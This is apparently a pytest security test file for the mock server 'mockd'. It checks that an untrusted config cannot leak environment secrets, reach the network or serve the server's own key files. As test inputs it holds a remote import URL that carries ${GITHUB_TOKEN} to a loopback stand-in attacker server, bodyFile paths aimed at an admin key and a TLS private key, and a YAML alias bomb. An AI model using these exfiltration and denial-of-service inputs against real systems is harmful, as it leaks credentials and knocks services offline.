"""A config from someone else, loaded by the real server: it must not leak the environment,
reach the network, or serve mockd's own secrets (docs/security.md)."""
from __future__ import annotations

import http.server
import threading

import pytest

from tests.helpers import free_port, make_config, run_mockd, start_server, write_config

SECRET = "wJalrXUtnFEMI-K7MDENG-bPxRfiCY"


def _secret_mock(mock_id: str = "leak", path: str = "/leak", **response):
    return {"id": mock_id, "type": "http", "http": {
        "matcher": {"method": "GET", "path": path},
        "response": {"statusCode": 200, **response}}}


@pytest.fixture(scope="module")
def shared(tmp_path_factory):
    """One ``mockd start`` with the admin key on, ``--tls-auto`` (so the data dir holds both
    ``admin-api-key`` and ``tls/localhost-key.pem``), started with an environment secret set,
    and a config holding the mocks of the tests below: ``/leak`` (a body naming the secret's
    variable), ``/ok`` and ``/users`` (a ``bodyFile`` in the data dir's ``files`` folder)."""
    folder = tmp_path_factory.mktemp("config-trust")
    data_dir = folder / "data"
    (data_dir / "files").mkdir(parents=True)
    (data_dir / "files" / "users.json").write_text('[{"id": 1}]')
    config = make_config(_secret_mock(body="${AWS_SECRET_ACCESS_KEY}"),
                         _secret_mock("ok", path="/ok", body="ok"),
                         _secret_mock("users", path="/users",
                                      bodyFile=str(data_dir / "files" / "users.json")))
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
        server = start_server(folder, config, no_auth=False, data_dir=data_dir,
                              extra_args=["--tls-auto", "--https-port", str(free_port())])
    with server:
        server.data_dir = data_dir
        server.key = (data_dir / "admin-api-key").read_text().strip()
        yield server


def test_a_config_cannot_serve_an_environment_secret(shared):
    with shared.client() as client:
        assert client.get("/leak").text == "${AWS_SECRET_ACCESS_KEY}"
    log = shared.log()
    assert "AWS_SECRET_ACCESS_KEY" in log and "--allow-env" in log and SECRET not in log


def test_allow_env_lets_the_person_running_the_server_opt_in(tmp_path, monkeypatch):
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    config = make_config(_secret_mock(body="${AWS_SECRET_ACCESS_KEY}"))
    with start_server(tmp_path, config, extra_args=["--allow-env", "AWS_*"]) as server, \
            server.client() as client:
        assert client.get("/leak").text == SECRET


class _Attacker(http.server.BaseHTTPRequestHandler):
    """Stands in for the attacker's server on loopback: records what reaches it."""

    seen: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 - the http.server name
        type(self).seen.append(self.path)
        self.send_response(404)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def attacker():
    _Attacker.seen = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Attacker)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def test_a_url_import_is_not_fetched_at_start(tmp_path, attacker, monkeypatch):
    monkeypatch.setenv("GITHUB_TOKEN", SECRET)
    config = write_config(tmp_path / "mocks.yaml", make_config(
        imports=[{"url": f"{attacker}/x?t=${{GITHUB_TOKEN}}"}]))
    result = run_mockd(["start", "-c", str(config), "--port", str(free_port()),
                        "--admin-port", str(free_port()), "--data-dir", str(tmp_path / "d"),
                        "--no-auth"], tmp_path)
    assert result.returncode == 2
    assert "imports[0].url" in result.stderr and "--allow-remote-imports" in result.stderr
    assert _Attacker.seen == []
    # Allowed, the URL is fetched, but never with a variable that was not allowed.
    result = run_mockd(["engine", "-c", str(config), "--port", str(free_port()),
                        "--allow-remote-imports"], tmp_path)
    assert result.returncode == 2  # the stand-in answers 404: a config error, after the fetch
    assert len(_Attacker.seen) == 1 and SECRET not in _Attacker.seen[0]


@pytest.mark.parametrize("name", ["admin-api-key", "tls/localhost-key.pem"])
def test_the_data_dir_secrets_are_never_served(shared, name):
    data_dir = shared.data_dir
    folder = data_dir.parent  # the config below sits beside the data dir, as a user's would
    assert (data_dir / name).exists()
    escape = make_config(_secret_mock(bodyFile=f"data/{name}"),
                         serverConfig={"cors": {"allowOrigins": ["*"]}})
    for extra in ([], ["--allow-body-files-anywhere"]):
        result = run_mockd(["engine", "-c", str(write_config(folder / "evil.yaml", escape)),
                            "--port", str(free_port()), "--data-dir", str(data_dir), *extra],
                           folder)
        assert result.returncode == 2, result.stderr
        assert "mocks[0].http.response.bodyFile" in result.stderr
        assert "never served" in result.stderr
    # Through the admin API, with the key, the answer is the same.
    with shared.admin_client(headers={"X-API-Key": shared.key}) as admin:
        answer = admin.post("/mocks", json=_secret_mock(
            "admin-leak", "/admin-leak", bodyFile=str(data_dir / name)))
    assert answer.status_code == 400, answer.text
    assert "never served" in answer.text


def test_the_engine_token_of_its_own_data_dir_is_not_served(tmp_path):
    data_dir = tmp_path / "state"
    config = write_config(tmp_path / "mocks.yaml", make_config(
        _secret_mock(bodyFile="state/engine-token")))
    result = run_mockd(["engine", "-c", str(config), "--port", str(free_port()),
                        "--data-dir", str(data_dir)], tmp_path)
    assert result.returncode == 2
    assert "mocks[0].http.response.bodyFile" in result.stderr


def test_files_uploaded_to_the_data_dirs_files_folder_are_served(shared):
    with shared.client() as client:
        assert client.get("/users").json() == [{"id": 1}]


def test_a_yaml_alias_bomb_is_refused_by_file_and_by_the_admin_api(shared, tmp_path):
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for level in range(1, 8):
        lines.append(f"a{level}: &a{level} [" + ", ".join([f"*a{level - 1}"] * 9) + "]")
    bomb = "\n".join(lines) + "\nmocks:\n  - matcher: {path: /b}\n    response: {body: *a7}\n"
    path = tmp_path / "bomb.yaml"
    path.write_text(bomb)
    result = run_mockd(["engine", "-c", str(path), "--port", str(free_port())], tmp_path,
                       timeout=30)
    assert result.returncode == 2 and "alias" in result.stderr
    with shared.admin_client(headers={"X-API-Key": shared.key}) as admin:
        answer = admin.post("/config", content=bomb,
                            headers={"Content-Type": "application/x-yaml"}, timeout=30)
        assert answer.status_code == 400 and "alias" in answer.json()["message"]
        assert admin.get("/health").status_code == 200


def test_a_config_cannot_send_recordings_outside_its_folder_or_the_data_dir(tmp_path):
    outside = tmp_path / "elsewhere"
    config_dir = tmp_path / "project"
    config_dir.mkdir()
    config = write_config(config_dir / "mocks.yaml",
                          make_config(recording={"dataDir": str(outside)}))
    port, admin_port = free_port(), free_port()
    result = run_mockd(["start", "-c", str(config), "--port", str(port), "--admin-port",
                        str(admin_port), "--engine-port", str(free_port()), "--no-auth",
                        "--data-dir", str(tmp_path / "data")], tmp_path)
    assert result.returncode == 2, result.stderr
    assert "recording.dataDir" in result.stderr
    assert not outside.exists()
